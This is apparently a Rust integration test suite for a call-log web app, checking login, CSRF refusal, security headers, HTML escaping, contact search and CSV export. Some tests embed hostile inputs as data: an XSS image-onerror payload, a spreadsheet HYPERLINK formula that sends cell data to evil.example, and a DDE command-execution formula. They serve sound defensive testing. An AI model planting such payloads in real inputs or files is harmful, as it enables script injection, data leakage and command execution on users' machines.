//! The web UI over HTTP against the real binary: the setup wizard with the code from the server log,
//! login, CSRF refusal, escaping of hostile contact names, login redirects, security headers, the call
//! detail's handling rule, and the live event stream.

mod common;
use common::*;

use std::io::{BufRead, BufReader, Write};
use std::net::TcpStream;
use std::time::Duration;

use serde_json::json;

const PASSWORD: &str = "correct horse battery";

/// Runs the setup wizard and returns a logged-in admin client.
fn set_up(srv: &Server) -> Client<'_> {
    let mut c = Client::new(srv);
    let page = c.get("/setup");
    assert_eq!(page.status, 200, "{}", page.text());
    let token = csrf_of(&page.text());
    let code = setup_code(srv);
    let r = c.post(
        "/setup",
        &[
            ("csrf", &token),
            ("code", &code),
            ("name", "owner"),
            ("password", PASSWORD),
        ],
    );
    assert_eq!(r.status, 303, "{}", r.text());
    assert_eq!(r.header("location"), Some("/setup/office"));
    c
}

fn server() -> Server {
    Server::start(Db::new("web"))
}

#[test]
fn setup_wizard_creates_the_admin_sets_the_office_and_then_is_gone() {
    // A contact imported before the wizard (as from the SD card), its number without area code.
    let db = Db::new("web");
    db.import_csv("Vorname;Nachname;Telefon\nKarl;Vorab;1234567\n");
    let srv = Server::start(db);
    // Before setup every page leads to the wizard.
    let r = srv.get("/calls");
    assert_eq!(r.status, 303);
    assert_eq!(r.header("location"), Some("/setup"));

    // A wrong code is refused and creates nobody.
    let mut c = Client::new(&srv);
    let token = csrf_of(&c.get("/setup").text());
    let r = c.post(
        "/setup",
        &[
            ("csrf", &token),
            ("code", "AAAA-BBBB-CCCC"),
            ("name", "mallory"),
            ("password", PASSWORD),
        ],
    );
    assert_eq!(r.status, 403);
    assert_eq!(srv.get("/setup").status, 200, "still no admin");

    // The right code with a password a guesser tries early: refused, saying why, and nobody made.
    let r = c.post(
        "/setup",
        &[
            ("csrf", &token),
            ("code", &setup_code(&srv)),
            ("name", "owner"),
            ("password", "Willkommen2026"),
        ],
    );
    assert_eq!(r.status, 400);
    assert!(r.text().contains("too easy to guess"), "{}", r.text());
    assert_eq!(srv.get("/setup").status, 200, "still no admin");

    let mut c = set_up(&srv);
    let office = c.get("/setup/office");
    assert_eq!(office.status, 200);
    let token = csrf_of(&office.text());
    let r = c.post(
        "/setup/office",
        &[
            ("csrf", &token),
            ("number.country", "DE"),
            ("number.area_code", "30"),
            ("number.outside_prefix", "0"),
            ("number.extension_digits", "2-3"),
            ("line0_number", "030 1234560"),
            ("line0_name", "Reception"),
            ("line0_main", "on"),
            ("office.timezone", "Europe/Rome"),
            ("office.language", "de"),
        ],
    );
    assert_eq!(r.status, 303, "{}", r.text());
    let settings = srv.db.ok(&["settings", "get", "office.timezone"]);
    assert!(settings.contains("Europe/Rome"), "{settings}");
    let lines = srv.db.ok(&["line", "list"]);
    assert!(lines.contains("Reception"), "{lines}");
    // The contact's number is read again with the office's area code, so its calls are known.
    let found = srv.db.ok(&["lookup", "030 1234567"]);
    assert!(found.contains("Karl"), "{found}");

    // The wizard is gone; the dashboard answers.
    assert_eq!(srv.get("/setup").status, 404);
    assert_eq!(c.get("/").status, 200);
}

#[test]
fn pages_require_login_and_login_works() {
    let srv = server();
    let _admin = set_up(&srv);
    for path in [
        "/",
        "/calls",
        "/calls/missed",
        "/contacts",
        "/reports",
        "/settings",
        "/calls/1",
    ] {
        let r = srv.get(path);
        assert_eq!(r.status, 303, "{path}");
        assert!(
            r.header("location").unwrap_or("").starts_with("/login"),
            "{path}: {:?}",
            r.header("location")
        );
    }
    assert_eq!(srv.get("/events").status, 401);

    let mut c = Client::new(&srv);
    let token = csrf_of(&c.get("/login?next=/calls").text());
    let bad = c.post(
        "/login",
        &[
            ("csrf", &token),
            ("name", "owner"),
            ("password", "wrong password"),
        ],
    );
    assert_eq!(bad.status, 401);
    let ok = c.post(
        "/login",
        &[
            ("csrf", &token),
            ("name", "owner"),
            ("password", PASSWORD),
            ("next", "/calls"),
        ],
    );
    assert_eq!(ok.status, 303);
    assert_eq!(ok.header("location"), Some("/calls"));
    let cookie = ok.header("set-cookie").unwrap_or("");
    assert!(
        cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"),
        "{cookie}"
    );
    let page = c.get("/calls");
    assert_eq!(page.status, 200);
    let csp = page.header("content-security-policy").unwrap_or("");
    assert!(
        csp.contains("script-src 'self'") && !csp.contains("unsafe-inline"),
        "{csp}"
    );
    assert_eq!(page.header("x-frame-options"), Some("DENY"));

    // Logging out ends the session on the server, not just in the browser.
    let old = c.cookie_header();
    let token = csrf_of(&page.text());
    assert_eq!(c.post("/logout", &[("csrf", &token)]).status, 303);
    let r = srv.request("GET", "/calls", &[("Cookie", &old)], b"");
    assert_eq!(r.status, 303);
}

/// The strength meter's grade (`POST /password-check`) is the rule a form's submit applies, and
/// only the setup wizard (before any admin exists) and a logged-in user with their token can ask.
#[test]
fn the_password_meter_grades_as_the_forms_do_and_only_for_its_own_pages() {
    let srv = server();
    let grade = |c: &mut Client<'_>, token: &str, password: &str, user: &str| {
        let r = c.post(
            "/password-check",
            &[("csrf", token), ("password", password), ("user", user)],
        );
        assert_eq!(r.status, 200, "{}", r.text());
        assert_eq!(r.header("cache-control"), Some("no-store"));
        let j = r.json();
        (
            j["level"].as_i64().unwrap(),
            j["message"].as_str().unwrap().to_string(),
        )
    };

    // Before setup: the wizard's page token grades, and nothing else does.
    let mut c = Client::new(&srv);
    let token = csrf_of(&c.get("/setup").text());
    let (level, why) = grade(&mut c, &token, "Willkommen2026", "owner");
    assert_eq!(level, 0);
    assert_eq!(why, "Too easy to guess: mostly a common word.");
    let (level, why) = grade(&mut c, &token, "short", "owner");
    assert_eq!(level, 0);
    assert_eq!(why, "Too short: at least 12 characters.");
    assert_eq!(grade(&mut c, &token, PASSWORD, "owner").0, 3);
    let r = c.post("/password-check", &[("password", PASSWORD)]);
    assert_eq!(r.status, 403, "{}", r.text());
    assert_eq!(r.json()["level"], 0);
    let r = Client::new(&srv).post(
        "/password-check",
        &[("csrf", &token), ("password", PASSWORD)],
    );
    assert_eq!(
        r.status,
        403,
        "another browser has no such token: {}",
        r.text()
    );

    // After setup: a logged-in user with their token, in their language; the name counts.
    let mut owner = set_up(&srv);
    let token = csrf_of(&owner.get("/me").text());
    assert_eq!(grade(&mut owner, &token, "anna.mueller1", "x").0, 2);
    assert_eq!(grade(&mut owner, &token, "anna.mueller1", "anna").0, 1);
    let (level, why) = grade(&mut owner, &token, "owner-owner-owner", "owner");
    assert_eq!(level, 0);
    assert_eq!(why, "Too easy to guess: mostly the user name.");
    // In the user's language.
    let r = owner.post("/me/language", &[("csrf", &token), ("language", "de")]);
    assert_eq!(r.status, 303, "{}", r.text());
    let (_, why) = grade(&mut owner, &token, "qwertz123456", "owner");
    assert_eq!(
        why,
        "Zu leicht zu erraten: größtenteils eine Folge wie 1234 oder qwertz."
    );
    // The meter never passes what the form then refuses.
    let r = owner.post(
        "/me/password",
        &[
            ("csrf", &token),
            ("password", PASSWORD),
            ("new_password", "owner-owner-owner"),
        ],
    );
    assert_eq!(r.status, 400, "{}", r.text());
    let r = owner.post(
        "/password-check",
        &[("csrf", "not-the-token"), ("password", PASSWORD)],
    );
    assert_eq!(r.status, 403);
    // The setup token no longer grades anything, and neither does no session.
    let r = c.post(
        "/password-check",
        &[("csrf", &token), ("password", PASSWORD)],
    );
    assert_eq!(r.status, 401, "{}", r.text());
    // The fields that set a password carry the meter.
    let me = owner.get("/me").text();
    assert!(me.contains("data-meter=\"meter-me\""), "{me}");
    assert!(me.contains("data-meter-user=\"owner\""), "{me}");
    assert!(me.contains("id=\"meter-me\""), "{me}");
    let users = owner.get("/users").text();
    assert!(users.contains("data-meter=\"meter-new\""), "{users}");
}

#[test]
fn a_form_without_its_csrf_token_is_refused_and_changes_nothing() {
    let srv = server();
    let mut c = set_up(&srv);
    let r = c.post("/contacts/new", &[("company", "Forged GmbH")]);
    assert_eq!(r.status, 403);
    let r = c.post(
        "/contacts/new",
        &[("csrf", "not-the-token"), ("company", "Forged GmbH")],
    );
    assert_eq!(r.status, 403);
    assert!(!c.get("/contacts").text().contains("Forged GmbH"));
    let export = srv.db.ok(&["export", "contacts"]);
    assert!(!export.contains("Forged"), "{export}");
}

#[test]
fn a_hostile_contact_name_is_rendered_as_text() {
    let srv = server();
    let mut c = set_up(&srv);
    let evil = "<img src=x onerror=alert(1)>";
    let token = csrf_of(&c.get("/contacts/new").text());
    let r = c.post(
        "/contacts/new",
        &[
            ("csrf", &token),
            ("first_name", evil),
            ("phone_kind", "office"),
            ("phone_number", "030 5550100"),
        ],
    );
    assert_eq!(r.status, 303, "{}", r.text());
    let loc = r.header("location").unwrap().to_string();
    for path in ["/contacts", loc.as_str()] {
        let html = c.get(path).text();
        assert!(
            html.contains("&lt;img src=x onerror=alert(1)&gt;"),
            "{path} shows the name escaped"
        );
        assert!(!html.contains(evil), "{path} must not contain raw markup");
    }
}

/// The names on a contact list page, in order, and its "more" link.
fn listed(html: &str) -> (Vec<String>, Option<String>) {
    let names = html
        .split("class=\"contact-name\" href=\"/contacts/")
        .skip(1)
        .filter_map(|s| s.split_once('>').and_then(|(_, r)| r.split_once('<')))
        .map(|(name, _)| name.to_string())
        .collect();
    let more = html
        .split("href=\"/contacts?q=")
        .nth(1)
        .and_then(|s| s.split_once('"'))
        .map(|(q, _)| format!("/contacts?q={}", q.replace("&amp;", "&")));
    (names, more)
}

#[test]
fn the_contact_search_finds_any_name_word_in_name_order_and_pages() {
    let db = Db::new("web-search");
    let mut csv = String::from("first_name,last_name,company,phone\n");
    csv.push_str("Anna,Müller,Bäckerei Sonnenschein,030 5550101\n");
    csv.push_str("Erika,Mustermann,Muster & Söhne GmbH,030 5550102\n");
    csv.push_str("Nora,Ohnenummer,Praxis am See,\n");
    for i in 0..55 {
        csv.push_str(&format!("Kim{i:02},Paging,,030 5551{i:03}\n"));
    }
    db.import_csv(&csv);
    let srv = Server::start(db);
    let mut c = set_up(&srv);
    // Any word of the names or the company, without its accents, a contact without a number too.
    for (q, want) in [
        ("muller", &["Anna Müller"][..]),
        ("S%C3%96HNE", &["Erika Mustermann"]),
        ("sonnen+anna", &["Anna Müller"]),
        ("see", &["Nora Ohnenummer"]),
        ("mu", &["Anna Müller", "Erika Mustermann"]),
        ("5550102", &["Erika Mustermann"]),
        ("nobody", &[]),
    ] {
        let page = c.get(&format!("/contacts?q={q}"));
        assert_eq!(page.status, 200, "{q}: {}", page.text());
        assert_eq!(listed(&page.text()).0, want, "{q}");
    }
    // 55 matches: 50 on the first page in name order, the other 5 behind "more".
    let (first, more) = listed(&c.get("/contacts?q=paging").text());
    let all: Vec<String> = (0..55).map(|i| format!("Kim{i:02} Paging")).collect();
    assert_eq!(first, all[..50]);
    let more = more.expect("a link to the next page");
    let (rest, none) = listed(&c.get(&more).text());
    assert_eq!(rest, all[50..]);
    assert_eq!(none, None);
}

fn post_event(srv: &Server, key: &str, body: serde_json::Value) {
    let r = srv.request(
        "POST",
        "/api/v1/events",
        &[
            ("Authorization", &format!("Bearer {key}")),
            ("Content-Type", "application/json"),
        ],
        body.to_string().as_bytes(),
    );
    assert_eq!(r.status, 200, "{}", r.text());
}

#[test]
fn a_contact_created_from_a_call_owns_that_call_and_its_earlier_ones() {
    let srv = server();
    let mut c = set_up(&srv);
    let key = srv.db.key("journal");
    // Two calls from an unknown number, one after the other.
    for call in ["k1", "k2"] {
        post_event(
            &srv,
            &key,
            json!({"event": "ringing", "call_id": call, "remote": "+49 30 5550188", "extension": "21"}),
        );
        post_event(&srv, &key, json!({"event": "hangup", "call_id": call}));
    }
    let ids = |page: String| -> Vec<String> {
        page.split("data-call=\"")
            .skip(1)
            .filter_map(|s| s.split('"').next().map(str::to_string))
            .collect()
    };
    let calls = ids(c.get("/calls").text());
    assert_eq!(calls.len(), 2);
    assert!(ids(c.get("/calls?q=Karl").text()).is_empty());

    let token = c.token(&format!(
        "/contacts/new?number=%2B49305550188&from_call={}",
        calls[0]
    ));
    let r = c.post(
        "/contacts/new",
        &[
            ("csrf", &token),
            ("first_name", "Karl"),
            ("last_name", "Caller"),
            ("phone_kind", "office"),
            ("phone_number", "+49 30 5550188"),
            ("from_call", &calls[0]),
        ],
    );
    assert_eq!(r.status, 303, "{}", r.text());
    assert_eq!(
        r.header("location"),
        Some(format!("/calls/{}", calls[0]).as_str())
    );
    // Both calls are his now: in the call log's name search, on his page, with his name in the log.
    assert_eq!(ids(c.get("/calls?q=Karl").text()), calls);
    let log = c.get("/calls").text();
    assert_eq!(log.matches("Karl Caller").count(), 2, "{log}");
    let contacts = c.get("/contacts?q=Karl").text();
    let link = "class=\"contact-name\" href=\"";
    let at = contacts.find(link).unwrap_or_else(|| panic!("{contacts}")) + link.len();
    let karl = contacts[at..].split('"').next().unwrap().to_string();
    assert_eq!(ids(c.get(&karl).text()), calls);

    // An import links the earlier calls of its contacts' numbers the same way.
    post_event(
        &srv,
        &key,
        json!({"event": "ringing", "call_id": "k3", "remote": "030 5550199", "extension": "21"}),
    );
    post_event(&srv, &key, json!({"event": "hangup", "call_id": "k3"}));
    srv.db.import_csv(
        "Vorname;Nachname;Telefon\nLena;Import;+49 30 5550199\nOhne;Anruf;030 5550100\n",
    );
    assert_eq!(ids(c.get("/calls?q=Lena").text()).len(), 1);
    assert_eq!(ids(c.get("/calls?q=Karl").text()), calls, "Karl's stay his");
}

#[test]
fn a_call_is_handled_only_after_it_ended_and_takes_comments() {
    let srv = server();
    let mut c = set_up(&srv);
    let key = srv.db.key("journal");
    post_event(
        &srv,
        &key,
        json!({"event": "ringing", "call_id": "w1", "remote": "+49 30 5550199", "extension": "21"}),
    );
    let log = c.get("/calls").text();
    assert!(log.contains("+49305550199"), "{log}");
    let id = log
        .split("data-call=\"")
        .nth(1)
        .and_then(|s| s.split('"').next())
        .unwrap()
        .to_string();
    let path = format!("/calls/{id}");
    let page = c.get(&path).text();
    assert!(
        page.contains("create-contact"),
        "unknown caller offers a contact"
    );
    assert!(
        !page.contains("mark-handled"),
        "a ringing call can't be handled"
    );
    let token = csrf_of(&page);
    let r = c.post(&path, &[("csrf", &token), ("action", "handled")]);
    assert_eq!(r.status, 200, "refused with the reason shown");
    assert!(r.text().contains("still going on"), "{}", r.text());

    post_event(&srv, &key, json!({"event": "hangup", "call_id": "w1"}));
    let r = c.post(
        &path,
        &[
            ("csrf", &token),
            ("action", "comment"),
            ("body", "Called back <b>tomorrow</b>"),
        ],
    );
    assert_eq!(r.status, 303);
    let r = c.post(&path, &[("csrf", &token), ("action", "handled")]);
    assert_eq!(r.status, 303, "{}", r.text());
    let page = c.get(&path).text();
    assert!(page.contains("Called back &lt;b&gt;tomorrow&lt;/b&gt;"));
    assert!(page.contains("owner"), "the comment's author is shown");
    let api = srv
        .request(
            "GET",
            &format!("/api/v1/calls/{id}"),
            &[("Authorization", &format!("Bearer {key}"))],
            b"",
        )
        .json();
    assert_eq!(api["handling"]["status"], "handled");
}

#[test]
fn the_event_stream_announces_incoming_calls_but_not_outbound_ones() {
    let srv = server();
    let c = set_up(&srv);
    let key = srv.db.key("journal");
    let mut s = TcpStream::connect(srv.addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    write!(
        s,
        "GET /events HTTP/1.1\r\nHost: x\r\nCookie: {}\r\n\r\n",
        c.cookie_header()
    )
    .unwrap();
    let mut r = BufReader::new(s);
    let mut line = String::new();
    r.read_line(&mut line).unwrap();
    assert!(line.contains("200"), "{line}");
    // Skip the headers and the retry line.
    loop {
        line.clear();
        r.read_line(&mut line).unwrap();
        if line.starts_with("retry") {
            break;
        }
    }
    post_event(
        &srv,
        &key,
        json!({"event": "dialing", "call_id": "o1", "remote": "030 5550111", "extension": "21"}),
    );
    post_event(
        &srv,
        &key,
        json!({"event": "ringing", "call_id": "i1", "remote": "030 5550122", "extension": "21"}),
    );
    let mut events = Vec::new();
    while events.len() < 2 {
        line.clear();
        r.read_line(&mut line).unwrap();
        if let Some(d) = line.strip_prefix("data: ") {
            events.push(serde_json::from_str::<serde_json::Value>(d.trim()).unwrap());
        }
    }
    assert_eq!(
        events[0]["notify"], false,
        "outbound never notifies: {events:?}"
    );
    assert_eq!(events[1]["notify"], true, "{events:?}");
    assert_eq!(events[1]["kind"], "ringing");
    assert!(events[1]["url"].as_str().unwrap().starts_with("/calls/"));
}

/// The browser walk-through in headless Chromium (tests/ui/walk.mjs): setup with the password
/// meter, login, a notification for an incoming call and its click, comment and handling, a contact
/// from an unknown caller, escaping, CSRF refusal and the report chart; the live pop-up and its
/// screen-pop actions (create from an unknown caller, open a known one, opening by itself only while
/// the user isn't typing), the name search, the missed-call assignment and bulk handling, sync
/// status with a failing webhook and an outbox skip, a staff user who sees only her extension's
/// calls, an encrypted backup download, every main page on a 390 px phone without sideways
/// overflow, and a second factor with its recovery codes. Screenshots go to
/// test-output/screenshots/. Needs Debian's `chromium` and `npm ci` in tests/ui (scripts/test.sh
/// does both); skipped with a note otherwise.
#[test]
fn browser_walk_through() {
    let ui = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/ui");
    let chromium = std::env::var("CHROMIUM").unwrap_or_else(|_| "/usr/bin/chromium".into());
    if !std::path::Path::new(&chromium).exists()
        || !ui.join("node_modules/playwright-core").exists()
    {
        // In CI scripts/test.sh has installed both, so a missing browser is a failure, not a skip.
        assert!(
            std::env::var_os("CI").is_none(),
            "chromium or tests/ui/node_modules is missing although CI is set; scripts/test.sh installs them"
        );
        eprintln!(
            "browser_walk_through skipped: run scripts/test.sh to install chromium and tests/ui"
        );
        return;
    }
    // Two employees on their extensions and two known callers, so the walk can show the pop-up for a
    // known contact, attribution for a staff user's own calls and the name search. No admin yet: the
    // walk starts with the setup wizard.
    let db = Db::new("web");
    db.berlin();
    db.ok(&["employee", "add", "Eva"]);
    db.ok(&["extension", "assign", "201", "Eva"]);
    db.ok(&["employee", "add", "Max"]);
    db.ok(&["extension", "assign", "202", "Max"]);
    db.import_csv(
        "first_name,last_name,company,phone\nGrace,Hopper,Navy Labs,030 5550188\nAlan,Turing,,030 5550144\n",
    );
    let srv = Server::start(db);
    let key = srv.db.key("journal");
    let shots = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("test-output/screenshots");
    std::fs::create_dir_all(&shots).unwrap();
    let out = std::process::Command::new("node")
        .current_dir(&ui)
        .arg("walk.mjs")
        .arg(format!("http://{}", srv.addr))
        .arg(setup_code(&srv))
        .arg(&key)
        .arg(&shots)
        .env("CHROMIUM", &chromium)
        .output()
        .expect("run node");
    let text = format!(
        "{}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        out.status.success(),
        "{text}\nserver log:\n{}",
        srv.log_text()
    );
    assert!(text.contains("all steps passed"), "{text}");
    // The steps that passed, for `cargo test -- --nocapture`.
    eprintln!("{text}");
}

/// Decodes standard base64 (the PEM body); panics on a character outside the alphabet.
fn unbase64(s: &str) -> Vec<u8> {
    const ABC: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = Vec::new();
    let (mut acc, mut bits) = (0u32, 0);
    for c in s.bytes().filter(|c| !c.is_ascii_whitespace() && *c != b'=') {
        let v = ABC
            .iter()
            .position(|a| *a == c)
            .unwrap_or_else(|| panic!("{c} is not base64")) as u32;
        acc = acc << 6 | v;
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
        }
    }
    out
}

#[test]
fn the_settings_page_offers_the_https_certificate_as_pem() {
    // The harness starts servers with HTTPS off: no certificate, nothing to download, no port taken.
    let srv = server();
    let mut c = set_up(&srv);
    assert!(
        !srv.log_text().contains("listening on https"),
        "{}",
        srv.log_text()
    );
    assert!(!c.get("/settings").text().contains("cert-download"));
    let r = c.get("/settings/cert.pem");
    assert_eq!(r.status, 404, "{}", r.text());
    assert!(r.text().contains("web.https_port"), "the page says why");
    drop(c);
    drop(srv);

    let db = Db::new("web-cert");
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    db.ok(&["settings", "set", "web.https_port", &port.to_string()]);
    let srv = Server::start(db);
    assert_eq!(
        srv.get("/settings/cert.pem").status,
        303,
        "only for logged-in users"
    );
    let mut c = set_up(&srv);
    let page = c.get("/settings").text();
    assert!(page.contains("id=\"cert-download\""), "{page}");
    let shown = page
        .split("id=\"cert-fingerprint\">")
        .nth(1)
        .and_then(|s| s.split('<').next())
        .unwrap_or_else(|| panic!("no fingerprint in {page}"))
        .to_string();
    let r = c.get("/settings/cert.pem");
    assert_eq!(r.status, 200, "{}", r.text());
    assert!(
        r.header("content-disposition")
            .unwrap_or("")
            .contains("ringbook.crt"),
        "{:?}",
        r.headers
    );
    let pem = r.text();
    let body = pem
        .strip_prefix("-----BEGIN CERTIFICATE-----\n")
        .and_then(|s| s.strip_suffix("-----END CERTIFICATE-----\n"))
        .unwrap_or_else(|| panic!("not one PEM certificate:\n{pem}"));
    assert!(body.lines().all(|l| l.len() <= 64), "{pem}");
    assert!(!pem.contains("PRIVATE KEY"));
    use sha2::Digest;
    let der = unbase64(body);
    let fingerprint = sha2::Sha256::digest(&der)
        .iter()
        .map(|b| format!("{b:02X}"))
        .collect::<Vec<_>>()
        .join(":");
    assert_eq!(
        fingerprint, shown,
        "the download is the certificate the page describes"
    );
}

#[test]
fn exports_open_in_a_spreadsheet_as_text_not_formulas() {
    let srv = server();
    let mut c = set_up(&srv);
    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
    srv.db.import_csv(&format!(
        "first_name,last_name,office\n\"{}\",Caller,+49 30 5550111\n",
        formula.replace('"', "\"\"")
    ));
    let key = srv.db.key("journal");
    post_event(
        &srv,
        &key,
        json!({"event": "ringing", "call_id": "f1", "remote": "+49 30 5550111", "extension": "21"}),
    );
    post_event(&srv, &key, json!({"event": "hangup", "call_id": "f1"}));
    let id = journal(&srv, &key)[0]["id"].clone();
    let r = srv.request(
        "PATCH",
        &format!("/api/v1/calls/{id}"),
        &[
            ("Authorization", &format!("Bearer {key}")),
            ("Content-Type", "application/json"),
        ],
        json!({"description": "@SUM(1+1)*cmd|' /C calc'!A0"})
            .to_string()
            .as_bytes(),
    );
    assert_eq!(r.status, 200, "{}", r.text());

    let cells = |csv: &str| -> Vec<String> {
        csv::Reader::from_reader(csv.as_bytes())
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
            .collect()
    };
    let contacts = c.get("/contacts/export.csv").text();
    let calls = c.get("/calls.csv").text();
    for (name, csv) in [("contacts", &contacts), ("calls", &calls)] {
        let cells = cells(csv);
        assert!(
            cells.iter().all(|v| !v.starts_with(['=', '@'])),
            "{name}: a cell a spreadsheet would run:\n{csv}"
        );
        assert!(
            cells.contains(&"+49305550111".to_string()),
            "{name}: numbers stay numbers:\n{csv}"
        );
    }
    assert!(
        cells(&contacts).contains(&format!("'{formula}")),
        "{contacts}"
    );

    // The export imports as it was: the name comes back without the quote.
    let again = Db::new("web-reimport");
    let file = again.dir.path().join("contacts.csv");
    std::fs::write(&file, &contacts).unwrap();
    again.ok(&["import", "contacts", file.to_str().unwrap()]);
    let out = again.ok(&["export", "contacts"]);
    assert!(cells(&out).contains(&format!("'{formula}")), "{out}");
    let found: serde_json::Value =
        serde_json::from_str(&again.ok(&["lookup", "+49305550111"])).unwrap();
    assert_eq!(found["matches"][0]["first_name"], formula, "{found}");
}

#[test]
fn the_missed_call_list_pages_to_its_oldest_calls() {
    let srv = server();
    let mut c = set_up(&srv);
    let key = srv.db.key("journal");
    // 205 missed calls, each from its own number, oldest first.
    let t0 = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64
        - 86_400;
    let events: Vec<serde_json::Value> = (0..205)
        .flat_map(|i| {
            let (id, at) = (format!("p{i}"), t0 + i * 60);
            let remote = format!("+49 30 555{i:04}");
            [
                json!({"event": "ringing", "call_id": id, "remote": remote, "extension": "21", "time": at}),
                json!({"event": "missed", "call_id": id, "time": at + 20}),
            ]
        })
        .collect();
    for batch in events.chunks(100) {
        let r = srv.request(
            "POST",
            "/api/v1/events",
            &[
                ("Authorization", &format!("Bearer {key}")),
                ("Content-Type", "application/json"),
            ],
            serde_json::Value::Array(batch.to_vec())
                .to_string()
                .as_bytes(),
        );
        assert_eq!(r.status, 200, "{}", r.text());
    }
    let open = |page: &str| page.matches("type=\"checkbox\" name=\"id\"").count();
    let first = c.get("/calls/missed").text();
    assert_eq!(open(&first), 200);
    assert!(first.contains("+49305550204"), "the newest first");
    assert!(
        !first.contains("+49305550000"),
        "the oldest is a page further"
    );
    let link = "id=\"missed-older\" href=\"";
    let at = first
        .find(link)
        .unwrap_or_else(|| panic!("no older page:\n{first}"))
        + link.len();
    let older = c
        .get(&first[at..].split('"').next().unwrap().replace("&amp;", "&"))
        .text();
    assert_eq!(open(&older), 5);
    assert!(older.contains("+49305550000"), "{older}");
    assert!(!older.contains(link), "the last page");
}
